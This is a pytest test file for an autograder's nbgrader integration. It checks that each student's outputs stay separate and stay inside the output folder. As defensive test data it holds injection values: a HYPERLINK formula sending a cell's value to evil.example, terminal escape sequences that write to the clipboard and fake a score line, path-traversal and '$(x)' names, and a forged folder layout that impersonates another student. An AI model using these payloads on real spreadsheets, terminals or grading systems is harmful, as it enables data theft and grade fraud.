"""Every per-submission output is keyed by the student: nbgrader's layout names them, two students'
notebooks of the same name keep two of everything, odd names stay inside the output folder, and
nbgrader's own release_feedback finds each page the kit wrote."""

from __future__ import annotations

import contextlib
import csv
import html
import json
import os
import re
import shutil
import sys
import types
from pathlib import Path

import pytest

from autograder.assignment import ASSIGNMENT_ID, NOTEBOOK_NAME, REPO_ROOT
from autograder.cli import main
from autograder.judge.checks import CHECKS

STEM = Path(NOTEBOOK_NAME).stem


def report_for(path, index: int = 0, *, error=None):
    """A report as the judge makes it, different per submission (``index``) without training anything."""
    from autograder.judge.evidence import CheckResult
    from autograder.judge.report import GradeReport

    checks = []
    for number, check in enumerate(CHECKS):
        passed = error is None and (index + number) % 3 != 0
        message = "fine" if passed else f"{check.id} is wrong: got {index * 7 + number}, expected '{check.id}'"
        checks.append(CheckResult(check.id, check.points if passed else 0, check.points, passed, message))
    accurate = 800 + 10 * index
    confusion = [[accurate if i == j else (1000 - accurate) // 9 for j in range(10)] for i in range(10)]
    return GradeReport(str(path), sum(c.points for c in checks), 100, error, checks,
                       history={"loss": [0.9, 0.5 - index / 100]}, confusion=None if error else confusion,
                       usage={"seconds": 3.0 + index, "sandbox_peak_memory_mib": 800 + 5 * index})


@pytest.fixture
def fast_grading(monkeypatch):
    """`autograder grade` as it is, but each submission's grading is a made-up report: the paths,
    the students and every output are the kit's own."""
    import autograder.batch.local

    graded = []

    def grade_submission(path, batch, content=None):
        graded.append(path)
        return report_for(path, len(graded), error="the notebook is not valid JSON" if "broken" in str(path) else None)

    @contextlib.contextmanager
    def open_batch(**kwargs):
        from autograder.config import Config
        from autograder.limits import Limits

        yield types.SimpleNamespace(sandbox=False, stopping=False, config=kwargs.get("config") or Config(),
                                    limits=kwargs.get("limits") or Limits())

    monkeypatch.setattr(autograder.batch.local, "grade_submission", grade_submission)
    monkeypatch.setattr(autograder.batch.local, "open_batch", open_batch)
    return graded


def nbgrader_class(root: Path, students) -> Path:
    """``root/submitted/<student>/fashion_mnist/fashion_mnist_classifier.ipynb`` for each, with the
    receipts nbgrader's collect leaves beside it."""
    for student in students:
        folder = root / "submitted" / student / ASSIGNMENT_ID
        folder.mkdir(parents=True)
        (folder / NOTEBOOK_NAME).write_text("{}")
        (folder / "timestamp.txt").write_text("2024-03-01 10:00:00.000000 UTC")
        (folder / "submission_secret.txt").write_bytes(os.fsencode(f"secret-of-{student}"))
    return root / "submitted"


def outputs_of(tmp_path: Path) -> dict[str, Path]:
    return {"json": tmp_path / "grades.json", "csv": tmp_path / "grades.csv", "gradescope": tmp_path / "gradescope",
            "feedback": tmp_path / "feedback", "class-report": tmp_path / "class.html"}


def grade(paths, tmp_path: Path) -> tuple[int, dict[str, Path]]:
    outputs = outputs_of(tmp_path)
    argv = ["grade", *map(str, paths), "--unsandboxed", "--results", str(tmp_path / "results"),
            *(arg for name, path in outputs.items() for arg in (f"--{name}", str(path)))]
    return main(argv), outputs


# --- Who a submission belongs to ------------------------------------------------------------------------------

def test_the_student_is_nbgrader_s_folder_else_the_path_inside_the_folder_graded(tmp_path):
    from autograder.batch.local import expand_submissions

    submitted = nbgrader_class(tmp_path / "course", ["alice", "bob"])
    loose = tmp_path / "loose"
    for name in ("carol/hw.ipynb", "dave.ipynb", "eve/hw.ipynb"):
        (loose / name).parent.mkdir(parents=True, exist_ok=True)
        (loose / name).write_text("{}")
    assert [student for _, student in expand_submissions([submitted])] == ["alice", "bob"]
    assert [student for _, student in expand_submissions([loose])] == ["carol/hw", "dave", "eve/hw"]
    # nbgrader's layout whatever is given: the course, one student's folder, the notebook itself.
    assert expand_submissions([submitted / "bob"])[0][1] == "bob"
    assert expand_submissions([submitted / "bob" / ASSIGNMENT_ID / NOTEBOOK_NAME])[0][1] == "bob"
    # Files: their path inside the deepest folder holding them all (one file: its stem).
    assert [s for _, s in expand_submissions([loose / "carol/hw.ipynb", loose / "eve/hw.ipynb"])] == [
        "carol/hw", "eve/hw"]
    assert expand_submissions([loose / "dave.ipynb"]) == [(loose / "dave.ipynb", "dave")]


def test_two_students_with_the_same_notebook_name_get_two_of_every_output(tmp_path, fast_grading):
    submitted = nbgrader_class(tmp_path, ["alice", "bob"])
    status, outputs = grade([submitted], tmp_path)
    assert status == 0 and len(fast_grading) == 2

    graded = json.loads(outputs["json"].read_text())
    assert [(entry["student"], entry["submission"]) for entry in graded] == [
        ("alice", str(submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME)),
        ("bob", str(submitted / "bob" / ASSIGNMENT_ID / NOTEBOOK_NAME)),
    ]
    assert graded[0]["score"] != graded[1]["score"]  # two different reports, not one written twice
    with open(outputs["csv"], newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["student"], int(row["score"])) for row in rows] == [(e["student"], e["score"]) for e in graded]
    for entry in graded:
        student = entry["student"]
        results = json.loads((outputs["gradescope"] / student / ASSIGNMENT_ID / STEM / "results.json").read_text())
        assert results["score"] == entry["score"]
        page = (outputs["feedback"] / student / ASSIGNMENT_ID / f"{STEM}.html").read_text()
        assert f"Feedback for <span class=\"student\">{student}</span>" in page
        assert f"<span class=\"score\">{entry['score']}</span>" in page
        # What nbgrader's release_feedback reads beside the page.
        assert (outputs["feedback"] / student / ASSIGNMENT_ID / "submission_secret.txt").read_text() == (
            f"secret-of-{student}")
    assert len(list(outputs["gradescope"].rglob("results.json"))) == 2
    assert len(list(outputs["feedback"].rglob("*.html"))) == 2


def test_ten_students_get_ten_pages_ten_gradescope_results_ten_rows_and_one_class_overview(tmp_path, fast_grading):
    students = [f"student{number:02}" for number in range(9)] + ["broken"]
    status, outputs = grade([nbgrader_class(tmp_path, students)], tmp_path)
    assert status == 0 and len(fast_grading) == 10
    pages = sorted(outputs["feedback"].rglob("*.html"))
    assert pages == [outputs["feedback"] / s / ASSIGNMENT_ID / f"{STEM}.html" for s in sorted(students)]
    assert sorted(p.parent.parent.parent.name for p in outputs["gradescope"].rglob("results.json")) == sorted(students)
    with open(outputs["csv"], newline="", encoding="utf-8-sig") as handle:
        assert sorted(row["student"] for row in csv.DictReader(handle)) == sorted(students)
    overview = outputs["class-report"].read_text()
    assert "10 submissions: 9 graded, 1 could not be graded." in overview
    assert all(f"<td>{student}</td>" in overview for student in students)
    assert overview.count("<img ") >= 4


# --- Names that would collide or escape ----------------------------------------------------------------------

def test_names_a_file_system_would_merge_get_outputs_of_their_own_and_everybody_is_graded(tmp_path, fast_grading):
    students = ["alice", "Alice", "strasse", "straße", "a b", "a_b", "x" * 60 + "1", "x" * 60 + "2", "k", "\u212a"]
    status, outputs = grade([nbgrader_class(tmp_path, students)], tmp_path)
    assert status == 0 and len(fast_grading) == len(students)
    pages = list(outputs["feedback"].rglob("*.html"))
    assert len({str(page).casefold() for page in pages}) == len(students)
    assert len({str(p).casefold() for p in outputs["gradescope"].rglob("results.json")}) == len(students)
    # A plain lower-case id keeps its own folder, where nbgrader's release_feedback looks for it.
    assert (outputs["feedback"] / "alice" / ASSIGNMENT_ID / f"{STEM}.html").is_file()
    assert (outputs["feedback"] / "k" / ASSIGNMENT_ID / f"{STEM}.html").is_file()
    for page in pages:
        student = page.read_text().split('class="student">')[1].split("</span>")[0]
        receipt = (page.parent / "submission_secret.txt").read_text()
        assert receipt == f"secret-of-{html.unescape(student)}"


def test_a_true_clash_costs_only_the_clashing_outputs_and_says_so(tmp_path, fast_grading, capsys):
    first = nbgrader_class(tmp_path / "one", ["alice", "bob"])
    second = nbgrader_class(tmp_path / "two", ["alice"])
    status, outputs = grade([first, second], tmp_path)
    assert status != 0 and len(fast_grading) == 3  # everybody graded
    err = capsys.readouterr().err
    assert str(first / "alice") in err and str(second / "alice") in err
    assert "student 'alice''s" not in err
    assert [p.relative_to(outputs["feedback"]).parts[0] for p in outputs["feedback"].rglob("*.html")] == ["bob"]
    assert len(json.loads(outputs["json"].read_text())) == 3
    # The same file given twice is no clash.
    notebook = first / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME
    assert grade([notebook, first], tmp_path / "again")[0] == 0


def mallory_nests_alice(root: Path, notebook: str = "anything.ipynb") -> tuple[Path, Path]:
    """Alice's real submission, and Mallory's copy of nbgrader's layout inside her own folder."""
    submitted = nbgrader_class(root, ["alice", "mallory"])
    nested = submitted / "mallory" / ASSIGNMENT_ID / "x" / "submitted" / "alice" / ASSIGNMENT_ID
    nested.mkdir(parents=True)
    (nested / notebook).write_text("{}")
    (nested / "submission_secret.txt").write_text("mallory's forged secret")
    return submitted, nested / notebook


def test_a_layout_nested_in_a_student_s_folder_stays_that_student_s(tmp_path, fast_grading):
    from autograder.batch.local import expand_submissions

    submitted, forged = mallory_nests_alice(tmp_path)
    keys = dict(expand_submissions([submitted]))
    assert keys[forged].startswith("mallory/") and list(keys.values()).count("alice") == 1
    status, outputs = grade([submitted], tmp_path)
    assert status == 0
    alice = outputs["feedback"] / "alice" / ASSIGNMENT_ID
    assert [p.name for p in alice.iterdir()] and not (alice / "anything.html").exists()
    assert (alice / "submission_secret.txt").read_text() == "secret-of-alice"
    assert len(list(outputs["feedback"].rglob("*.html"))) == 3
    assert all(p.relative_to(outputs["feedback"]).parts[0] in ("alice", "mallory")
               for p in outputs["feedback"].rglob("*"))


def test_a_layout_nested_in_a_student_s_folder_stays_theirs_when_graded_on_its_own(tmp_path):
    """Regraded by the path a report printed (mallory's own error text may ask for it): the nested
    ``submitted`` folder, or anything in it, passed for the anchor, and mallory's notebook for alice's, in
    the gradebook, the feedback and the receipts (helper-82)."""
    from autograder.batch.local import expand_submissions, nbgrader_place

    submitted, forged = mallory_nests_alice(tmp_path, NOTEBOOK_NAME)
    nested = forged.parent.parent.parent
    for given in (forged, forged.parent, nested / "alice", nested):
        [(path, student)] = expand_submissions([given])
        assert student.startswith("mallory/") and nbgrader_place(path, student) is None, (given, student)
    # The real layout, graded the same ways, stays nbgrader's.
    alice = submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME
    for given in (alice, alice.parent, submitted / "alice"):
        assert expand_submissions([given]) == [(alice, "alice")]


def test_a_course_kept_in_a_folder_named_submitted_is_nbgrader_s_layout(tmp_path):
    """/srv/submitted/ml101/submitted/alice/…: the outer folder is the machine's, not a student's work
    (helper-83: the whole class was keyed by long paths, and the gradebook got no student)."""
    from autograder.batch.local import expand_submissions, nbgrader_place

    submitted, forged = mallory_nests_alice(tmp_path / "submitted" / "ml101", NOTEBOOK_NAME)
    alice = submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME
    for given in (submitted, submitted / "alice", alice):
        keyed = dict(expand_submissions([given]))
        assert keyed[alice] == "alice" and nbgrader_place(alice, "alice") == ("alice", ASSIGNMENT_ID), given
    assert dict(expand_submissions([submitted]))[forged].startswith("mallory/")
    for given in (forged, forged.parent.parent):  # mallory's copy, graded on its own, stays hers
        assert expand_submissions([given])[0][1].startswith("mallory/"), given


def test_the_gradebook_takes_only_the_assignment_s_notebook_and_refuses_a_student_s_second(tmp_path, fast_grading,
                                                                                            monkeypatch):
    from nbgrader.api import Gradebook

    submitted, forged = mallory_nests_alice(tmp_path, NOTEBOOK_NAME)
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    with Gradebook(url) as gradebook:
        gradebook.add_assignment(ASSIGNMENT_ID)
        gradebook.add_notebook(STEM, ASSIGNMENT_ID)
        for check in CHECKS:
            gradebook.add_grade_cell(f"check_{check.id}", STEM, ASSIGNMENT_ID, max_score=check.points, cell_type="code")
    (submitted / "alice" / ASSIGNMENT_ID / "scratch.ipynb").write_text("{}")
    assert main(["grade", str(submitted), "--unsandboxed", "--nbgrader-db", url,
                 "--json", str(tmp_path / "grades.json")]) == 0
    graded = {entry["submission"]: entry["score"] for entry in json.loads((tmp_path / "grades.json").read_text())}
    with Gradebook(url) as gradebook:
        assert gradebook.find_submission(ASSIGNMENT_ID, "alice").score == graded[
            str(submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME)]
        assert sorted(student.id for student in gradebook.students) == ["alice", "mallory"]
    # Two reports of one student for the assignment: refused for that student, written for the others.
    from autograder.errors import OutputError
    from autograder.reports.gradebook import write_nbgrader_gradebook

    reports = [report_for(f"/{where}/submitted/{who}/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", i)
               for i, (where, who) in enumerate([("a", "alice"), ("b", "alice"), ("a", "bob")])]
    with pytest.raises(OutputError, match="alice"):
        write_nbgrader_gradebook(reports, url)
    with Gradebook(url) as gradebook:
        assert gradebook.find_submission(ASSIGNMENT_ID, "bob").score == reports[2].score
        assert gradebook.find_submission(ASSIGNMENT_ID, "alice").score == graded[
            str(submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME)]


@pytest.mark.parametrize("name", ['=HYPERLINK("evil.example?"&C3,"Click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_student_s_name_is_never_a_spreadsheet_formula(tmp_path, name):
    from autograder.reports.formats import write_csv

    report = report_for(f"/course/submitted/x/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 1)
    report.student = name
    negative = report_for(f"/course/submitted/y/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 2)
    negative.score = -3
    write_csv([report, negative], tmp_path / "grades.csv")
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    # A name's tab or carriage return is shown as an escape, which no spreadsheet reads as a formula either.
    assert rows[1][0] == ("'" + name if name[0] not in "\r\t" else f"\\x{ord(name[0]):02x}" + name[1:])
    assert rows[2][2] == "-3"  # a number stays a number


def test_a_folder_name_cannot_write_escape_sequences_to_the_terminal(tmp_path, fast_grading, capsys):
    evil = "x\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2K\rcarol: 100/100\n\x9b31m\x7f"
    status, _ = grade([nbgrader_class(tmp_path, ["alice", evil])], tmp_path)
    assert status == 0
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert not any(ord(c) < 32 and c != "\n" or 0x7f <= ord(c) <= 0x9f for c in stream)
        assert "\ncarol: 100/100" not in stream
    assert "\\x1b]52" in captured.out


@pytest.mark.parametrize("bad", ["link", "fifo", "folder", "huge"])
def test_a_bad_receipt_costs_the_receipt_not_the_page(tmp_path, fast_grading, capsys, bad):
    submitted = nbgrader_class(tmp_path, ["alice", "bob"])
    receipt = submitted / "bob" / ASSIGNMENT_ID / "timestamp.txt"
    receipt.unlink()
    if bad == "link":
        receipt.symlink_to(submitted / "alice" / ASSIGNMENT_ID / "timestamp.txt")
    elif bad == "fifo":
        os.mkfifo(receipt)
    elif bad == "folder":
        receipt.mkdir()
    else:
        receipt.write_bytes(b"0" * 10**6)
    status, outputs = grade([submitted], tmp_path)
    assert status == 0
    bob = outputs["feedback"] / "bob" / ASSIGNMENT_ID
    assert (bob / f"{STEM}.html").is_file() and not (bob / "timestamp.txt").exists()
    assert (bob / "submission_secret.txt").read_text() == "secret-of-bob"
    assert "timestamp.txt" in capsys.readouterr().err


def test_receipts_are_read_from_the_folder_graded_not_one_swapped_in_later(tmp_path, fast_grading, monkeypatch):
    import autograder.batch.local

    submitted = nbgrader_class(tmp_path, ["alice", "mallory"])
    grade_one = autograder.batch.local.grade_submission

    def and_swap(path, batch, content=None):
        report = grade_one(path, batch, content)
        if "mallory" in str(path):
            shutil.rmtree(path.parent)
            path.parent.symlink_to(submitted / "alice" / ASSIGNMENT_ID)
        return report

    monkeypatch.setattr(autograder.batch.local, "grade_submission", and_swap)
    status, outputs = grade([submitted], tmp_path)
    mallory = outputs["feedback"] / "mallory" / ASSIGNMENT_ID
    assert not (mallory / "submission_secret.txt").exists() or (
        (mallory / "submission_secret.txt").read_text() != "secret-of-alice")


def test_a_writer_never_overwrites_one_submission_s_file_with_another_s(tmp_path):
    from autograder.errors import OutputError
    from autograder.reports.feedback import write_feedback
    from autograder.reports.formats import write_gradescope

    reports = [report_for(f"/a/submitted/alice/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 1),
               report_for(f"/b/submitted/alice/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 2),
               report_for(f"/a/submitted/bob/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 3)]
    for write in (write_feedback, write_gradescope):
        with pytest.raises(OutputError, match="2 of 3 not written.*/a/submitted/alice.*share a place"):
            write(reports, tmp_path / write.__name__)
    assert [p.relative_to(tmp_path / "write_feedback").parts[0]
            for p in (tmp_path / "write_feedback").rglob("*.html")] == ["bob"]


@pytest.mark.parametrize("student", ["..", ".", "../../outside", "", ".hidden", "a\\b", "x\x00y", "<b>é\udcff</b>",
                                     "ü" * 300])
def test_a_student_s_name_never_writes_outside_the_output_folder(tmp_path, student):
    from autograder.reports.class_report import write_class_report
    from autograder.reports.feedback import write_feedback
    from autograder.reports.formats import write_gradescope

    report = report_for(f"/course/submitted/x/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 1)
    report.student = student
    out = tmp_path / "out"
    written = write_feedback([report], out / "feedback") + write_gradescope([report], out / "gradescope")
    for path in written:
        assert path.resolve().is_relative_to(out.resolve()) and path.is_file()
        assert all(not part.startswith(".") and len(part.encode()) <= 255 for part in path.relative_to(out).parts)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    page = written[0].read_text()
    assert "<b>" not in page  # the name is shown escaped, never as markup
    write_class_report([report], out / "class.html")
    assert "<b>" not in (out / "class.html").read_text()


def test_odd_student_folders_in_nbgrader_s_layout_are_graded_into_safe_places(tmp_path, fast_grading):
    from autograder.text import printable

    students = ["...", "..hidden", "a b$(x)", os.fsdecode(b"caf\xe9")]
    status, outputs = grade([nbgrader_class(tmp_path, students)], tmp_path)
    assert status == 0
    graded = json.loads(outputs["json"].read_text())
    # As nbgrader names them; a byte that is not UTF-8 as the text \udcXX, which strict JSON readers accept.
    assert [entry["student"] for entry in graded] == [printable(student) for student in sorted(students)]
    pages = list(outputs["feedback"].rglob("*.html"))
    assert len(pages) == 4 and all(p.resolve().is_relative_to(outputs["feedback"].resolve()) for p in pages)
    # Each changed name keeps what it can and ends in a hash of the whole name: two never meet.
    folders = sorted(p.relative_to(outputs["feedback"]).parts[0] for p in pages)
    assert [folder[:-13] for folder in folders] == ["_...", "_..hidden", "a_b__x_", "caf_"]
    assert all(re.fullmatch(r"-[0-9a-f]{12}", folder[-13:]) for folder in folders)


# --- nbgrader's own release_feedback ---------------------------------------------------------------------------

def test_nbgrader_s_release_feedback_releases_each_student_s_page(tmp_path, fast_grading):
    from nbgrader.utils import notebook_hash
    from test_nbgrader import nbgrader

    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(REPO_ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    submitted = nbgrader_class(course, ["alice", "bob"])
    assert main(["grade", str(submitted), "--unsandboxed", "--results", str(tmp_path / "results"),
                 "--feedback", str(course / "feedback")]) == 0
    exchange = tmp_path / "exchange"
    exchange.mkdir()
    nbgrader(course, "release_feedback", ASSIGNMENT_ID, "--CourseDirectory.course_id=course101",
             f"--Exchange.root={exchange}")
    released = exchange / "course101" / "feedback"
    assert len(list(released.glob("*.html"))) == 2
    for student in ("alice", "bob"):
        page = released / f"{notebook_hash(secret=f'secret-of-{student}', notebook_id=STEM)}.html"
        assert f"Feedback for <span class=\"student\">{student}</span>" in page.read_text()


@pytest.mark.parametrize("workers", [1, 3])
def test_a_submission_stopped_at_its_share_is_graded_again_alone_once_the_others_are_done(tmp_path, monkeypatch,
                                                                                        workers):
    """Its report comes from the grading at the limit, with the bytes first read (the same path given twice,
    changed between, keeps each its own), counted once, stored once; the others' warm trainers are closed
    before (helper-84)."""
    import io

    import autograder.batch.local as local
    from autograder.batch.progress import Progress
    from autograder.batch.shared import Batch
    from autograder.errors import MemoryShareExceeded
    from autograder.judge.report import GradeReport
    from autograder.limits import Limits

    paths = [tmp_path / f"{name}.ipynb" for name in ("a", "heavy", "b")]
    for path in paths:
        path.write_text("{}")
    notebooks = [paths[0], paths[1], paths[2], paths[1]]
    events = []

    def graded(path, batch, content):
        held = batch.limits.group_memory_bytes
        events.append((path.name, content, held))
        if path.name == "heavy.ipynb" and held is not None:
            if content == b"{}" and workers == 1:  # in turn: the file changes between the two reads of it
                path.write_text('{"changed": 1}')
            raise MemoryShareExceeded(path, held)
        return GradeReport.ungraded(path, f"graded {content!r} under {held}")

    class Trainers:
        def close(self):
            events.append("trainers closed")

    monkeypatch.setattr(local, "grade_submission", graded)
    batch = Batch(data=None, inputs=None, input_files=[], trainer_inputs=tmp_path, trainings=None,
                  limits=Limits(group_memory_bytes=4 * 2**30), trainers=Trainers())
    out = io.StringIO()
    progress = Progress(len(notebooks), out, None)
    reports = local.grade_here(notebooks, batch, tmp_path / "results", progress, workers)
    second = b'{"changed": 1}' if workers == 1 else b"{}"
    assert [report.error for report in reports] == [
        f"graded b'{{}}' under {4 * 2**30}", "graded b'{}' under None", f"graded b'{{}}' under {4 * 2**30}",
        f"graded {second!r} under None"]
    assert [report.usage.get("alone_after_share_mib") for report in reports] == [None, 4096, None, 4096]
    closed = events.index("trainers closed")
    # Each regraded at the limit, once the others are done (the same bytes twice: the second from the store).
    assert all(event[2] is None for event in events[closed + 1:]) and len(events) == closed + 1 + (workers == 1) + 1
    assert progress.done == len(notebooks) and out.getvalue().count("graded again alone") == 2
    assert len(list((tmp_path / "results").glob("*.json"))) == 3  # a path given twice is one result file


def test_a_student_s_folder_nested_a_thousand_deep_costs_the_class_nothing(tmp_path, fast_grading, capsys):
    """`rglob` recursed once per folder level: 1,200 levels in mallory's folder stopped the batch with a
    RecursionError before anybody was graded (helper-88 1)."""
    submitted = nbgrader_class(tmp_path, ["alice", "mallory"])
    levels = [submitted / "mallory" / ASSIGNMENT_ID]
    for _ in range(1200):  # one level at a time: os.makedirs recurses, and so does shutil.rmtree
        levels.append(levels[-1] / "a")
        levels[-1].mkdir()
    (levels[-1] / "deep.ipynb").write_text("{}")
    try:
        status, outputs = grade([submitted], tmp_path)
        assert status == 0
        assert sorted(report["student"] for report in json.loads(outputs["json"].read_text())) == ["alice", "mallory"]
        assert (outputs["feedback"] / "alice" / ASSIGNMENT_ID / f"{STEM}.html").exists()
        assert "1 folders more than 16 levels below a folder graded were not searched" in capsys.readouterr().out
    finally:
        (levels[-1] / "deep.ipynb").unlink()
        for level in reversed(levels[1:]):
            level.rmdir()
